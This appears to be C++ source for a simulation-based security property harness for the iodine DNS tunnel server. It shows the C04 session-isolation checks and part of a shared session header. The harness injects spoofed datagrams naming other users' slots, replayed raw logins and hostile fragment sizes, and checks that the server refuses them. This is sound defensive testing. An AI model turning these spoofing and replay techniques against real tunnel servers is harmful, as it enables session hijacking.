		uint64_t silent = sim::W.now - s.t_last;
		sim::W.run_for(3000);
		const scn::Rx *r = sc.answer_for(id);
		bool badip = r && r->ans.ok && r->ans.payload.size() == 5 && !memcmp(r->ans.payload.data(), "BADIP", 5);
		if (silent >= 62000000ull + 3000 && s.state != 0) { X.n_expiry++; }
		bool still_mine = s.user >= 0 && s.user < 32 && E.slot[s.user].vack_to.same_ip(sc.addr);   // not re-issued to somebody else (who may be live; without source checking a request naming the slot then acts for the newcomer)
		if (silent >= 62000000ull + 3000 && !badip && s.up && still_mine)
			X.fail("C04:expired-session-accepted", fmt("session %d (user %d) was silent for %.1f s and its request was not refused", (int)(&s - &X.ss[0]), s.user, silent / 1e6));
		if (!badip && s.user >= 0 && s.user < 32) X.maybe_active[s.user] = sim::W.now;   // not provably refused: the slot it names (possibly re-issued to somebody else by now) may have been refreshed
		if (badip) s.state = 0;
		else if (s.up && s.state != 0) { s.t_last = sim::W.now - 3000; if (s.user >= 0 && s.user < 32) E.slot[s.user].t_active = s.t_last; }
	};
	// raw-mode session: a raw ping is answered with a raw ping when the session is accepted, not at all otherwise
	auto touch_raw = [&](Sess &s, bool expect_reply, int reply_cmd = 3) {
		scn::ScriptClient &sc = E.S(s.src).sc;
		uint64_t silent = sim::W.now - s.t_last;
		size_t b0 = sc.inbox.size();
		sim::W.run_for(3000);
		bool replied = false;
		for (size_t q = b0; q < sc.inbox.size(); q++) if (sc.inbox[q].is_raw && sc.inbox[q].dg.data.size() >= 4 && (sc.inbox[q].dg.data[3] >> 4) == reply_cmd) replied = true;
		if (silent >= 62000000ull + 3000 && s.state != 0) X.n_expiry++;
		bool still_mine = s.user >= 0 && s.user < 32 && E.slot[s.user].vack_to.same_ip(sc.addr);
		if (!expect_reply) {   // a raw data frame is never answered: accepted for sure only while the session is well within its 60 s
			if (s.state == 1 && silent <= 58000000ull) { s.t_last = sim::W.now - 3000; if (s.user >= 0 && s.user < 32) E.slot[s.user].t_active = s.t_last; }
			else s.t_maybe = sim::W.now;
			if (s.user >= 0 && s.user < 32) X.maybe_active[s.user] = sim::W.now;
			return;
		}
		silent = sim::W.now - 3000 - std::max(s.t_last, s.t_maybe);
		if (expect_reply && silent >= 62000000ull + 3000 && replied && s.up && still_mine)
			X.fail("C04:expired-session-accepted", fmt("raw-mode session %d (user %d) was silent for %.1f s and its raw %s was still answered", (int)(&s - &X.ss[0]), s.user, silent / 1e6, reply_cmd == 1 ? "login (correct response to challenge+1)" : "ping"));
		if (s.user >= 0 && s.user < 32 && (replied || !expect_reply)) X.maybe_active[s.user] = sim::W.now;
		if (expect_reply && !replied && silent >= 62000000ull) s.state = 0;
		else if (replied && s.up && s.state != 0) { s.t_last = sim::W.now - 3000; if (s.user >= 0 && s.user < 32) E.slot[s.user].t_active = s.t_last; }
	};
	// pings of a logged-in third party: each refreshes its slot (upper bound always, lower bound when an answer other than BADIP was seen)
	auto third_pings = [&](scn::ScriptClient &sc, int user, int n) {
		for (int i = 0; i < n; i++) {
			uint64_t t0 = sim::W.now;
			uint16_t id = sc.send_ping(); sim::W.run_for(3000);
			if (user < 0 || user >= 32) continue;
			X.maybe_active[user] = sim::W.now;
			const scn::Rx *r = sc.answer_for(id);
			bool badip = r && r->ans.ok && r->ans.payload.size() == 5 && !memcmp(r->ans.payload.data(), "BADIP", 5);
			if (r && r->ans.ok && !badip && r->ans.payload.size() >= 2) E.slot[user].t_active = std::max(E.slot[user].t_active, t0);
		}
	};
	size_t tun_counter = 0;
	for (const A4 &a : P.acts) {
		if (sim::W.livelock || !X.sig.empty()) break;
		switch (a.kind) {
		case A_PING: { Sess &s = X.ss[a.who]; if (!s.up) break;
			if (s.raw && a.salt % 3 == 0) {
				// the raw login again, from the session's own address (a client that lost the reply repeats it; so does anybody who recorded it):
				// accepted like any other message of the session while it is live, and refused -- no reply, nothing revived -- once the
				// session has been silent for more than 60 s
				scn::ScriptClient &sc = E.S(s.src).sc; uint8_t hh[16]; ref::login_hash(sc.password, sc.challenge + 1, hh);
				sc.send_raw(refproto::raw_frame(1, sc.userid, Bytes(hh, hh + 16))); touch_raw(s, true, 1); X.n_raw_relogin++; E.note(fmt("session %d raw login again", a.who)); break;
			}
			if (s.raw) { scn::ScriptClient &sc = E.S(s.src).sc; sc.send_raw(refproto::raw_frame(3, sc.userid, Bytes())); touch_raw(s, true); E.note(fmt("session %d raw ping", a.who)); break; }
			uint16_t id = E.S(s.src).sc.send_ping(); touch(s, id); E.note(fmt("session %d ping", a.who)); break; }
		case A_DATA: {
			Sess &s = X.ss[a.who]; if (!s.up) break;
			scn::ScriptClient &sc = E.S(s.src).sc;
			Bytes dst = E.s->server_tun_ip();
			if (a.sel > 0 && X.ss[(a.sel - 1) % X.ss.size()].up && (a.sel - 1) % (int)X.ss.size() != a.who) { dst = X.ss[(a.sel - 1) % X.ss.size()].tun_ip; X.n_c2c++; X.got_traffic[((a.sel - 1) % X.ss.size()) & 15] = true; }
			Bytes body(12 + a.salt % 40); { uint32_t x = a.salt | 1; for (size_t i = 0; i < body.size(); i++) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; body[i] = (uint8_t)(x >> 9); } }
			Bytes pkt = scn::tun_packet(dst, s.tun_ip, body, (uint16_t)(a.salt >> 8));
			Bytes z = refproto::zcompress(pkt);
			if (s.raw) { sc.send_raw(refproto::raw_frame(2, sc.userid, z)); touch_raw(s, false); E.note(fmt("session %d sends a packet to %s in a raw frame", a.who, a.sel > 0 ? "another session" : "the server")); break; }
			static const char cm[] = "abcdefghijklmnopqrstuvwxyz0123456789";
			sc.up_seq = (sc.up_seq + 1) & 7;
			std::string name = refproto::name_data(sc.userid, sc.up_seq, 0, sc.dn_seq, sc.dn_frag, 1, cm[sc.data_cmc], sc.up_codec, z, sc.domain);
			sc.data_cmc = (sc.data_cmc + 1) % 36;
			uint16_t id = sc.send_name(name);
			touch(s, id);
			E.note(fmt("session %d sends a packet to %s", a.who, a.sel > 0 ? "another session" : "the server"));
			break;
		}
		case A_OPT: { Sess &s = X.ss[a.who]; if (!s.up || s.raw) break; scn::ScriptClient &sc = E.S(s.src).sc; bool ok;
			// a fragment size the session's record type can carry (a larger one cuts fragments off: the session's own misconfiguration)
			int cap = (E.cfg.qtype == 6 || E.cfg.qtype == 7) ? 100 : ((E.cfg.qtype == 4 || E.cfg.qtype == 5) ? 900 : 1000);
			int fsz = 20 + (int)(a.salt % (uint32_t)(cap - 19)); int sel = a.sel; if (sel == 2 && X.got_traffic[a.who]) sel = (int)(a.salt & 1);   /* a fragment size is only requested before any downstream traffic: changing it in the middle of a transfer makes the server re-send the current fragment with another length, and whether the session already holds the old one is a matter of timing (a real client sets the size once, in the handshake) */
			if (sel == 0) ok = sc.do_option('l'); else if (sel == 1) ok = sc.do_option('i'); else ok = sc.do_set_fragsize(fsz); E.note(fmt("session %d option request %s -> %s", a.who, sel == 0 ? "lazy" : (sel == 1 ? "immediate" : fmt("fragsize %d", fsz).c_str()), ok ? "ok" : "refused")); break; }
		case A_SPOOF: {
			if (!E.cfg.check_ip) break;            // without source checking a foreign request is allowed to act for the session
			Sess &v = X.ss[a.victim]; if (!v.up) break;
			Act m = a.msg; m.user = v.user; m.src = a.who < P.nsess ? X.ss[a.who].src : a.who;
			if (E.S(m.src).sc.addr.same_ip(E.S(v.src).sc.addr)) break;
			// the victim must still own its slot (after an expiry the slot may have been re-issued to somebody else)
			if (v.user < 0 || v.user >= 32 || !E.slot[v.user].have || !E.slot[v.user].vack_to.same_ip(E.S(v.src).sc.addr)) break;
			X.n_spoof++;
			if (with_spoofs) {
				size_t before = E.S(m.src).sc.inbox.size();
				uint16_t id = send_act(E, t, m);
				sim::W.run_for(3000);
				scn::ScriptClient &sp = E.S(m.src).sc;
				bool isdns = !(m.kind == K_RAWLOGIN || m.kind == K_RAWDATA || m.kind == K_RAWPING);
				bool got = false, badip = false; std::string what;
				for (size_t i = before; i < sp.inbox.size(); i++) {
					const scn::Rx &rx = sp.inbox[i];
					if (rx.is_raw) { got = true; what = "a raw frame"; continue; }
					if (rx.ans.id != id) continue;   // an answer to one of the spoofer's own (honest) queries
					got = true;
					badip = rx.ans.ok && rx.ans.payload.size() == 5 && !memcmp(rx.ans.payload.data(), "BADIP", 5);
					what = rx.ans.ok ? hexs(rx.ans.payload, 16) : rx.ans.err;
				}
				if (isdns && got && !badip) X.fail(std::string("C04:spoof-not-refused:") + KNAME[m.kind], fmt("a %s request naming user %d of session %d, sent from the foreign address %s, was answered with %s instead of BADIP", KNAME[m.kind], v.user, a.victim, sp.addr.str().c_str(), what.c_str()));
				if (!isdns && got) X.fail(std::string("C04:spoof-not-refused:") + KNAME[m.kind], fmt("a raw %s frame naming user %d sent from the foreign address %s was answered", KNAME[m.kind], v.user, sp.addr.str().c_str()));
				if (badip) X.n_spoof_badip++;
				E.note(m.str() + fmt(" (victim session %d)", a.victim));
			} else sim::W.run_for(3000);
			break;
		}
		case A_TUN: {
			Bytes dst; int owner = -2; const char *what = "";
			Bytes sip = E.s->server_tun_ip();
			uint32_t sh = ((uint32_t)sip[0] << 24) | (sip[1] << 16) | (sip[2] << 8) | sip[3];
			int size_log2 = 32 - E.cfg.netmask; uint32_t mask = size_log2 >= 32 ? 0 : ~((size_log2 >= 31 ? 0x7fffffffu : (1u << size_log2)) - 1);
			switch (a.sel) {
			case 0: { Sess &v = X.ss[a.victim]; if (!v.up) break; if (v.user < 0 || v.user >= 32 || !E.slot[v.user].vack_to.same_ip(E.S(v.src).sc.addr)) break; dst = v.tun_ip; what = "a session"; uint64_t silent = sim::W.now - v.t_last;
				uint64_t silent_hi = sim::W.now - std::max(v.t_last, v.t_maybe);   // a raw data frame may have refreshed the session without the harness knowing
				owner = (v.state == 0 && v.t_maybe <= v.t_last) ? -1 : (silent <= 58000000ull && v.state != 0 ? a.victim : (silent_hi >= 62000000ull ? -1 : -3)); break; }
			case 1: { // slot that got a VACK but never logged in / unassigned slot address
				Bytes ip = E.s->client_tun_ip((int)(a.salt % 16)); bool owned = false; for (auto &s : X.ss) if (s.up && s.tun_ip == ip) owned = true;
				for (auto &tip : X.third_ips) if (tip == ip) owned = true;   // a third party logged in there: no claim
				if (!owned) { dst = ip; owner = -1; what = "an address no logged-in session holds"; } break; }
			case 2: dst = sip; owner = -1; what = "the server itself"; break;
			case 3: { uint32_t n = sh & mask; dst = Bytes{(uint8_t)(n >> 24), (uint8_t)(n >> 16), (uint8_t)(n >> 8), (uint8_t)n}; owner = -1; what = "the network address"; break; }
			case 4: { uint32_t b = sh | ~mask; dst = Bytes{(uint8_t)(b >> 24), (uint8_t)(b >> 16), (uint8_t)(b >> 8), (uint8_t)b}; owner = -1; what = "the broadcast address"; break; }
			case 6: {   // the address a logged-in third party holds (owner code 100 + source index)
				if (X.third.empty()) break;
				Exec::Third &th = X.third[a.salt % X.third.size()];
				if (th.user < 0 || th.user >= 32 || !E.slot[th.user].vack_to.same_ip(E.S(th.src).sc.addr)) break;
				uint64_t silent = sim::W.now - th.t_last;
				dst = th.ip; what = "a logged-in third party"; owner = silent <= 58000000ull ? 100 + th.src : (silent >= 62000000ull ? -1 : -3); break; }
			default: dst = Bytes{192, 168, (uint8_t)(a.salt >> 8), (uint8_t)a.salt}; owner = -1; what = "an address outside the tunnel network"; break;
			}
			if (dst.empty() || owner == -3) break;
			Bytes body((a.salt & 0x100) ? 16 + a.salt % 60 : 100 + a.salt % 500); { uint32_t x = (a.salt ^ (uint32_t)(tun_counter * 2654435761u)) | 1; for (size_t i = 0; i < body.size(); i++) { x ^= x << 13; x ^= x >> 17; x ^= x << 5; body[i] = (uint8_t)(x >> 7); } }   // unrelated contents: fragments are recognised by substring search
			Bytes pkt = scn::tun_packet(dst, Bytes{8, 8, 8, 8}, body, (uint16_t)(50000 + tun_counter++));
			X.tunpk.push_back(std::make_pair(refproto::zcompress(pkt), owner));
			X.tunraw.push_back(pkt);
			if (owner >= 0) X.n_tun_live++; else X.n_tun_dead++;
			if (a.sel == 0) X.got_traffic[a.victim & 15] = true;
			sim::W.offer_tun(E.s->srv, pkt);
			sim::W.run_for(3000);
			E.note(fmt("tun packet #%zu (%zu bytes, compressed %zu) for %s (%u.%u.%u.%u) expected %s", tun_counter - 1, pkt.size(), X.tunpk.back().first.size(), what, dst[0], dst[1], dst[2], dst[3], owner >= 0 ? "delivery to its owner only" : "no delivery"));
			break;
		}
		case A_ADV: sim::W.run_for(a.dt); E.note(fmt("advance %.3f s", a.dt / 1e6)); break;
		case A_NEWLOGIN: {
			// a third party that knows the password logs in and polls: it gets a free or an expired slot (never a live one, see (3))
			// and with it that slot's tunnel address; whatever arrived for the address before belongs to the earlier session and
			// must not reach the newcomer (oracle (2): fragments of those packets are owned by the earlier session)
			// only with source checking: without it any address may act for any slot, two scripted clients naming the same slot then
			// interfere (one's pings are the other's duplicates) and the harness no longer knows which requests refreshed the slot
			if (!E.cfg.check_ip) break;
			int k = P.nsess + (int)(a.salt % P.nthird);
			scn::ScriptClient &sc = E.S(k).sc;
			Exec::Third *cur = nullptr; for (auto &th : X.third) if (th.src == k) cur = &th;
			if (cur && sim::W.now - cur->t_last < 50000000ull && cur->user >= 0 && cur->user < 32 && E.slot[cur->user].vack_to.same_ip(sc.addr) && ((a.salt >> 9) & 3) != 0) {
				// already logged in and live: it polls (fetches whatever the server holds for its address)
				third_pings(sc, cur->user, 8);
				cur->t_last = sim::W.now - 3000;
				E.note(fmt("third party src%d (user %d) polls", k, cur->user));
				break;
			}
			bool ok = sc.handshake((a.salt >> 8) & 1, 0, 0, 0);
			E.note(fmt("third party src%d logs in: %s, user %d", k, ok ? "ok" : "refused", sc.userid));
			if (ok) { X.n_newlogin++; unsigned a4 = 0, b4 = 0, c4 = 0, d4 = 0; sscanf(sc.tun_ip_text.c_str(), "%u.%u.%u.%u", &a4, &b4, &c4, &d4); Bytes tip{(uint8_t)a4, (uint8_t)b4, (uint8_t)c4, (uint8_t)d4}; X.third_ips.push_back(tip); third_pings(sc, sc.userid, 6);
				for (size_t q = 0; q < X.third.size(); q++) if (X.third[q].src == k) { X.third.erase(X.third.begin() + q); break; }
				X.third.push_back(Exec::Third{k, tip, sc.userid, sim::W.now - 3000}); }
			break;
		}
		case A_NEWV: {
			int k = P.nsess + (int)(a.salt % P.nthird);
			Act m; m.kind = K_V; m.src = k; m.arg = 0;
			send_act(E, t, m); sim::W.run_for(3000); E.note(fmt("third party src%d requests a slot", k));
			break;
		}
		}
		pump(X);
	}
	// drain: live sessions keep pinging until nothing has arrived for a while, so that everything the server has
	// queued for them is fetched completely in both executions (how far a transfer got when the plan ends depends
	// on wake-up timing)
	{
		int quiet = 0;
		for (int k = 0; k < 150 && quiet < 4 && !sim::W.livelock; k++) {
			size_t before = 0, after = 0;
			for (auto &s : X.ss) before += E.S(s.src).sc.received.size() + E.S(s.src).sc.dn_buf.size();
			for (auto &s : X.ss) if (s.up && s.state == 1 && sim::W.now - s.t_last < 50000000ull) { if (s.raw) E.S(s.src).sc.send_raw(refproto::raw_frame(3, E.S(s.src).sc.userid, Bytes())); else E.S(s.src).sc.send_ping(); }
			sim::W.run_for(25000); pump(X);
			for (auto &s : X.ss) after += E.S(s.src).sc.received.size() + E.S(s.src).sc.dn_buf.size();
			quiet = after == before ? quiet + 1 : 0;
		}
	}
	// reassembled packets: every packet a session received must be one destined to it
	for (size_t i = 0; i < X.ss.size(); i++)
		for (auto &got : E.S(X.ss[i].src).sc.received)
			for (size_t k = 0; k < X.tunraw.size(); k++)
				if (X.tunraw[k] == got && X.tunpk[k].second != (int)i) X.fail("C04:misrouted", fmt("session %zu received a packet that arrived on the server tun for %s", i, X.tunpk[k].second < 0 ? "an address without a live session" : "another session"));
}

static CaseResult run_case(Tape &t)
{
	CaseResult r;
	Plan P = gen_plan(t);
	Exec A, B;
	Tape t2(std::vector<uint32_t>{});
	execute(P, true, A, t2);
	bool livelockA = sim::W.livelock;
	std::string trace;
	for (size_t i = 0; i < A.E.trace.size() && i < 18; i++) trace += "\n  " + A.E.trace[i];
	r.render = P.cfg.describe() + fmt(" server=%s/%d sessions=%d third-parties=%d | spoofs=%d (answered BADIP %d) tun live/dead=%d/%d expiries=%d vack=%d vful=%d c2c=%d", P.cfg.server_ip.c_str(), P.cfg.netmask, P.nsess, P.nthird, A.n_spoof, A.n_spoof_badip, A.n_tun_live, A.n_tun_dead, A.n_expiry, A.E.n_vack, A.E.n_vful, A.n_c2c) + trace;
	bool srvdead = A.E.s->srv->state == sim::ST_EXITED;
	std::string srvlog = srvdead ? A.E.s->srv->log.substr(0, 300) : "";
	if (!A.sig.empty()) r.fail(A.sig, A.why + "\n" + r.render);
	int nsp = A.n_spoof;
	Transcript TA = A.T;
	std::vector<std::vector<Bytes>> recvA;
	for (auto &ss : A.ss) recvA.push_back(A.E.S(ss.src).sc.received);
	std::vector<bool> aliveA;
	for (auto &ss : A.ss) aliveA.push_back(ss.state == 1 && sim::W.now - ss.t_last < 50000000ull);
	if (r.ok && nsp > 0 && P.cfg.check_ip) {
		Tape t3(std::vector<uint32_t>{});
		execute(P, false, B, t3);
		// compare what the sessions saw and what reached the tun
		for (size_t i = 0; i < TA.rx.size() && r.ok; i++) {
			std::vector<std::string> x = TA.rx[i], y = B.T.rx[i];
			std::sort(x.begin(), x.end()); std::sort(y.begin(), y.end());
			std::vector<std::string> onlyx, onlyy;
			std::set_difference(x.begin(), x.end(), y.begin(), y.end(), std::back_inserter(onlyx));
			std::set_difference(y.begin(), y.end(), x.begin(), x.end(), std::back_inserter(onlyy));
			if (!onlyx.empty() || !onlyy.empty())
				r.fail("C04:spoof-changed-session", fmt("session %zu observed '%.70s' only with the spoofed datagrams and '%.70s' only without them", i, onlyx.empty() ? "-" : onlyx[0].c_str(), onlyy.empty() ? "-" : onlyy[0].c_str()) + "\n" + r.render);
			if (r.ok && A.enc[i] != B.enc[i]) r.fail("C04:spoof-changed-encoding", fmt("the downstream encoding of session %zu differs with and without the spoofed datagrams", i) + "\n" + r.render);
			// (the largest fragment seen is not compared: it depends on where a fragment-size request falls inside a transfer)
			if (r.ok) {
				// sessions that are alive at the end of both executions have fetched everything (drain); a session that expired
				// on the way may have got more or less of its last transfer depending on wake-up timing: one list must then
				// be a prefix of the other
				const std::vector<Bytes> &ra = recvA[i], &rb = B.E.S(B.ss[i].src).sc.received;
				bool alive = aliveA[i] && B.ss[i].state == 1 && sim::W.now - B.ss[i].t_last < 50000000ull;
				size_t n = std::min(ra.size(), rb.size());
				bool prefix_ok = std::equal(ra.begin(), ra.begin() + n, rb.begin());
				if (!prefix_ok || (alive && ra.size() != rb.size()))
					r.fail("C04:spoof-changed-downstream", fmt("session %zu reassembled %zu downstream packets with the spoofed datagrams and %zu without%s", i, ra.size(), rb.size(), prefix_ok ? "" : " (different packets)") + "\n" + r.render);
			}
		}
		if (r.ok && TA.tunw != B.T.tunw) r.fail("C04:spoof-changed-tun", fmt("the packets written to the server tun differ with (%zu) and without (%zu) the spoofed datagrams", TA.tunw.size(), B.T.tunw.size()) + "\n" + r.render);
	}
	if (livelockA || sim::W.livelock) r.fail("C04:livelock", "simulation did not make progress");
	if (srvdead) r.fail("C04:server-exited", "server exited: " + srvlog);
	r.nontrivial = P.nsess >= 2 && nsp >= 1 && A.n_tun_live >= 1 && A.n_tun_dead >= 1 && A.n_expiry >= 1;
	r.cls(P.cfg.check_ip ? "source-check-on" : "source-check-off");
	if (nsp) r.cls("spoofs");
	if (A.n_expiry) r.cls("expiry-crossed");
	if (A.E.n_vful) r.cls("server-full");
	if (A.n_tun_dead) r.cls("tun-packet-for-dead-address");
	if (A.n_c2c) r.cls("client-to-client");
	if (A.n_newlogin) r.cls("third-party-logged-in");
	if (A.n_raw_sessions) r.cls("raw-mode-session");
	if (A.n_raw_relogin) r.cls("raw-login-repeated-later");
	return r;
}

int main(int argc, char **argv)
{
	if (!ref::md5_selftest()) return 2;
	PropDef d; d.id = "C04"; d.run = run_case; d.tape_scale = 8.0;
	return harness_main(argc, argv, d);
}
