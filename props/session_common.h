// session_common.h -- generated histories of 1..3 *scripted* tunnel sessions (refproto peers) against the
// real iodined over simnet: pings, upstream data chunks, fragment-size requests, packets arriving on the
// server's tun device, re-deliveries of earlier queries (new id / other relay address / changed case), time
// steps.  Shared by C14 (no unsolicited or surplus answers, lazy hold-back bound), C15 (fragment size bound,
// consecutive numbering, last flag) and C16 (re-delivered queries are never processed twice); each property
// binary picks its action mix and the verdicts it owns.
#pragma once
#include <map>
#include "sim/harness.h"
#include "sim/scenario.h"
#include "sim/monitors.h"
#include <algorithm>
#include <deque>
#include <memory>

// VERIF_KNOWN=1 (set by the driver when it replays pinned cases) disables every exclusion of a known finding; VERIF_KNOWN=K5 only that one
#ifndef VERIF_KNOWN_ENABLED_DEFINED
#define VERIF_KNOWN_ENABLED_DEFINED
static inline bool known_enabled(const char *tag) { const char *e = getenv("VERIF_KNOWN"); return e && (!strcmp(e, "1") || strstr(e, tag)); }
#endif

namespace ses {
using namespace hz;
using scn::fmt;

struct Profile {
	uint32_t w_ping = 6, w_up = 4, w_offer = 4, w_adv = 3, w_nreq = 1, w_redeliver = 0, w_freeze = 0, w_rawmix = 0, w_recycle = 0;
	int max_sessions = 1;
	bool wild_frag = false;     // C15: fragment sizes from the hostile list, ack games
	bool z_cmc = false;         // C16: half of the sessions start their data cache-miss counter just below 'z' (the real client starts at 'a' and gets there after 25 data queries)
	bool recycle_moves = false; // C14: after the silent period the host logs in again from another port (one recycle in two): whatever the server still holds for the earlier session must not be answered to the new address
	bool big_frag = false;      // C16: one session in four negotiates a fragment size of 1200..4094 (boundary values 2047/2048, 4093/4094) and gets packets of up to 4600 bytes, so that answers of up to 4096 bytes pass through the answer cache
	bool ack_games = false;
	bool wrap_games = false;    // C01: upstream packets crafted against mis-assembly, sent as a conforming client would after seven of its packets were lost entirely (same 3-bit sequence number again)
	bool qr_games = false;      // now and then a ping is sent with the QR bit set (a response, not a query): it must not be answered
	bool wild = false;          // the server may serve a wildcard domain; re-deliveries may then carry the same payload under another sub-domain (a different question)
	bool c2c = false;           // upstream packets may be addressed to another session's tunnel address (the server forwards them itself)
	int max_actions = 60;
	size_t max_body = 1400;
};

struct QRec {
	uint64_t t_sent = 0, t_delivered = 0;
	sim::Addr src; uint16_t id = 0; std::string name; uint16_t qtype = 0;
	int peer = 0; bool redelivery = false; int of = -1; bool identical = true; int window = 0; /* 1 cache, 2 qmem, 3 pending */
	refproto::QAck ack;
	int answers = 0; std::vector<size_t> emits;
	bool seen_by_peer = false;
};

struct Emit {
	uint64_t t; sim::Addr dst; uint16_t id; int user; int qrec; bool to_redelivery;
	Bytes payload; refproto::DownHdr h; bool has_data = false;
};

struct Stream {              // downstream stream of one session as emitted by the server (answers to originals)
	bool started = false;
	int seq = 0, frag = 0;
	uint64_t series = 0;     // counts packets started
	Bytes acc, cur; bool cur_last = false;
	uint64_t t_first_cur = 0;    // first emission of the current (seq, frag)
	int pkt = -1;            // index into zs of the packet being sent, -1 unknown
	int minF = 1 << 30;      // smallest fragment size in force while this packet was sent
	int nfr = 0;
};

struct Peer {
	scn::ScriptClient sc;
	Bytes tun_ip;
	bool lazy = false; int F = 100;
	std::deque<Bytes> up_queue; Bytes up_z; size_t up_off = 0; int up_frag = 0; bool up_active = false;
	int up_next_to = -1; size_t up_force_first = 0;
	int merge_stage = 0; bool merge_lose_first = false; Bytes merge_next; std::string stray_name; int stray_seq = 0; std::vector<Bytes> up_abandoned;   // C01 merge game (see do_up)
	bool restart_partner = false; std::string late_name; int late_seq = -1;   // C02 restart oracle / C01 late-fragment game (see do_up)
	Bytes up_cur_pkt; int up_cur_to = -1;   // peer index the current upstream packet is addressed to (client-to-client), -1 the server
	std::vector<Bytes> up_completed;
	size_t absorbed = 0;
	std::vector<Bytes> zs;          // compressed packets the server read from its tun device for this session
	std::vector<Bytes> offered;     // the packets themselves (same index)
	Stream st;
	std::vector<int> saved_order;   // QRec indices in the order the server answered them "normally"
	std::vector<std::pair<int, int>> prev_acks;   // (seq, frag) positions the peer has held before
	bool raw = false;
	int frozen = 0;                 // answers to the next `frozen` queries are lost before they reach the peer
	int flips = 0;                  // re-deliveries with changed case so far (each may add one entry to the server's memories)
	size_t q_epoch = 0;             // R.q.size() when the current session of this peer began (queries before that belong to an earlier session on the slot)
	size_t cache_floor = 0;         // saved_order.size() when the session last lowered its fragment size (answers before that were cut for a larger size)
};

struct AckEv { uint64_t t; int user, seq, frag; bool redelivery; };

struct Run {
	scn::Config cfg;
	std::unique_ptr<scn::Session> s;
	mon::Verdicts v;
	mon::WireMonitor wm;
	mon::TunMonitor tm;
	std::vector<std::unique_ptr<Peer>> peers;
	std::vector<QRec> q;
	std::vector<Emit> em;
	std::vector<AckEv> acks;
	std::vector<std::string> trace;
	std::string render;
	bool up = false;
	// statistics for the non-trivial rules
	int n_red_after_lower = 0, n_red_case_z = 0, n_optswitch = 0;
	int n_redeliver = 0, n_red_cache = 0, n_red_qmem = 0, n_red_pending = 0, n_red_lastfrag = 0, n_red_case = 0, n_red_otheraddr = 0;
	int n_multi3 = 0, n_nreq_ok = 0, n_badfrag = 0, n_dup_twice = 0, n_realsoon = 0, n_tun_via_held = 0, n_long = 0;
	int n_cache_same = 0, n_trunc = 0, n_lost_answers = 0, n_giveup = 0, n_raw = 0, n_recycled = 0, n_recycled_same_name = 0, n_recycled_data_before_n = 0, n_c2c = 0, n_red_altdomain = 0, n_qr = 0, n_hsreq = 0, n_wrap = 0, n_merge = 0, n_glue = 0, n_infra = 0, n_merge_lost_first = 0, n_excluded_k4 = 0, n_stray = 0, n_late = 0, n_excluded_k5 = 0, n_recycled_moved = 0;
	std::vector<Bytes> must_deliver;   // packets the server accepted a fresh start of (a different first fragment under the same sequence number) and then received completely
	uint64_t n_data_emits = 0;
	std::map<int, std::pair<int, Bytes>> c2c_on_delivery;   // last-fragment query record -> (receiving peer, packet): registered in the receiver's stream when the server reads that query
	uint64_t t_last_sent = 0;    // when the harness last handed a query to the network
	std::vector<std::string> classes;
};

static const int FLIST[] = {0, 1, 2, 3, 50, 100, 101, 255, 1200, 4093, 4094, 4095, 4096, 65535};

inline Bytes ip_of_text(const std::string &s)
{
	unsigned a = 0, b = 0, c = 0, d = 0;
	sscanf(s.c_str(), "%u.%u.%u.%u", &a, &b, &c, &d);
	return Bytes{(uint8_t)a, (uint8_t)b, (uint8_t)c, (uint8_t)d};
}

inline std::string flip_case(const std::string &s, Tape &t)
{
	std::string o = s;
	int mode = (int)t.below(3);
	for (auto &c : o) {
		bool f = mode == 0 ? true : (mode == 1 ? (c >= 'a' && c <= 'z') : t.chance(1, 2));
		if (!f) continue;
		if (c >= 'a' && c <= 'z') c = (char)(c - 32); else if (c >= 'A' && c <= 'Z') c = (char)(c + 32);
	}
	return o;
}

struct Engine {
	Run &R; Tape &t; const Profile &P;
	int cur_qrec = -1;   // the recorded query the server is processing right now
	Engine(Run &r, Tape &tp, const Profile &p) : R(r), t(tp), P(p) {}

	int peer_of_user(int u) const { for (size_t k = 0; k < R.peers.size(); k++) if (R.peers[k]->sc.userid == u) return (int)k; return -1; }

	void note(const std::string &s) { if (R.trace.size() < 200) R.trace.push_back(fmt("%.3f ", sim::W.now / 1e6) + s); if (getenv("VERIF_TRACE")) fprintf(stderr, "%.6f %s\n", sim::W.now / 1e6, s.c_str()); }

	// ---- hooks
	void install()
	{
		auto prev_recv = sim::W.on_recv;
		sim::W.on_recv = [this, prev_recv](const sim::Datagram &dg, sim::Instance *i) {
			if (prev_recv) prev_recv(dg, i);
			if (i->idx != R.s->srv->idx) return;
			cur_qrec = -1;
			for (size_t k = 0; k < R.q.size(); k++) {
				QRec &r = R.q[k];
				if (!r.t_delivered && r.src == dg.src && r.id == (uint16_t)((dg.data.size() >= 2) ? (dg.data[0] << 8 | dg.data[1]) : 0)) {
					refproto::Query qq;
					if (refproto::decode_query(dg.data, R.cfg.domain, qq) && qq.name == r.name) {
						r.t_delivered = sim::W.now ? sim::W.now : 1;
						cur_qrec = (int)k;
						{ auto c2 = R.c2c_on_delivery.find((int)k); if (c2 != R.c2c_on_delivery.end()) { Peer &to = *R.peers[c2->second.first]; to.zs.push_back(refproto::zcompress(c2->second.second)); to.offered.push_back(c2->second.second); R.c2c_on_delivery.erase(c2); } }
						if (r.redelivery) classify_at_delivery(r);
						R.acks.push_back(AckEv{sim::W.now, r.ack.user, r.ack.dn_seq, r.ack.dn_frag, r.redelivery});
						break;
					}
				}
			}
		};
		auto prev_send = sim::W.on_send;
		sim::W.on_send = [this, prev_send](const sim::Datagram &dg) {
			if (prev_send) prev_send(dg);
			if (dg.from_inst != R.s->srv->idx) return;
			on_server_emit(dg);
		};
		auto prev_tr = sim::W.on_tun_read;
		sim::W.on_tun_read = [this, prev_tr](sim::Instance *i, const Bytes &b) {
			if (prev_tr) prev_tr(i, b);
			if (i->idx != R.s->srv->idx || b.size() < 24) return;
			Bytes dst(b.begin() + 20, b.begin() + 24);
			for (auto &p : R.peers) if (p->tun_ip == dst) { p->zs.push_back(refproto::zcompress(b)); p->offered.push_back(b); }
		};
	}

	// which of the windows named by the property the original of a re-delivery is in, at the moment the server reads it
	void classify_at_delivery(QRec &r)
	{
		Peer &p = *R.peers[r.peer];
		const QRec &o = R.q[r.of];
		r.window = 0;
		if (o.t_delivered && o.answers == 0) { r.window = 3; R.n_red_pending++; }
		else {
			int rank = 0, rank_kind = 0; bool found = false;
			size_t pos = 0;
			for (size_t k = p.saved_order.size(); k-- > 0;) {
				int qi = p.saved_order[k];
				if (qi == r.of) { found = true; pos = k; break; }
				rank++;
				if (R.q[qi].ack.is_ping == o.ack.is_ping) rank_kind++;
			}
